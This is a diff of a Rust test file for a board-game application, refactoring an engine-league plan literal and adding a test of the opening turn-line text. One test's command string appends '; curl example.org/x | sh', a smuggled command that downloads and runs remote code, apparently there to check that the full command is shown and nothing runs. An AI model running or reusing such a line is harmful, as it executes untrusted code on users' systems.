@@ -14,6 +14,7 @@ use crate::app::core::input::Intent;
 use crate::app::core::navigation::Page;
 use crate::app::core::outgoing::Arrived;
 use crate::app::core::results::{Ending, ResultEntry, Results};
+use crate::app::core::rules::Rules;
 use crate::app::core::session::{MatchSetup, Panels, Seat, Session, TableRequested};
 use crate::app::core::settings::Settings;
 use crate::app::engine::hints::HintRequested;
@@ -21,6 +22,7 @@ use crate::app::engine::thinking::{MoveNowRequested, Thinking};
 use crate::app::games::bingo_battle::pages::SCORES;
 use crate::app::games::covered::Covered;
 use crate::app::games::line::BoardLine;
+use crate::app::games::ui::GameUi;
 use crate::app::kit;
 use crate::app::kit::action::Action;
 use crate::app::kit::buttons::Button;
@@ -535,20 +537,10 @@ fn resigning_is_asked_about_and_enter_is_harmless() {
 fn a_program_of_a_file_is_shown_with_its_whole_command_and_enter_is_harmless() {
     let command = "/home/a-friend/engines/bizingo-engine --threads 2 --log /tmp/log; curl example.org/x | sh";
     let plan = Plan::<Bizingo> {
-        specs: [&format!("ugi:{command}"), "random"].map(|spec| spec.parse().unwrap()).to_vec(),
-        options: Default::default(),
-        position: None,
         seed: 1,
         opening: 0,
-        book: Default::default(),
         games: 2,
-        go: Default::default(),
-        clock: None,
-        sprt: None,
-        odds: 0,
-        adjudicate: None,
-        shard: Default::default(),
-        format: Default::default(),
+        ..Plan::of([&format!("ugi:{command}"), "random"].map(|spec| spec.parse().unwrap()).to_vec())
     };
     let league = LeagueView { plan: Some(plan.into()), threads: 2, ..LeagueView::default() };
     let mut model = Model::default();
@@ -676,6 +668,19 @@ fn a_throw_and_its_choice_are_one_move_wherever_moves_are_counted() {
     // A line of the list that begins with a choice is there too.
     let choice = bingo("2..../2..../...../..... l 0 0 sA mA c- a-", &[": sm"]);
     assert_eq!((choice.rows.as_slice(), choice.number()), ([0].as_slice(), 1));
+}
+
+#[test]
+fn before_the_first_move_the_line_says_what_the_game_is_about_or_why_this_side_begins() {
+    assert_eq!(words::turn_line(&against_computer(&[]), false), "Surround to capture · Your move · Light");
+    let moved = against_computer(&["d8-e8", "f5-e5"]);
+    assert_eq!(words::turn_line(&moved, false), "Your move · Light");
+    let placed = bingo("2..../2..../...../..... l 0 0", &[]);
+    assert_eq!(words::turn_line(&placed, false), "Four claims win · Left to throw", "no dice decided who begins");
+    let setup = MatchSetup { terms: AnyTerms::usual(GameKind::BingoBattle), seed: 1, ..MatchSetup::default() };
+    let rolled = Rules::from(setup.start());
+    let begins = rolled.bingo_battle().unwrap().game().begins();
+    assert!(begins.starts_with("Higher roll, ") && begins.contains(" to "), "{begins}");
 }
 
 #[test]
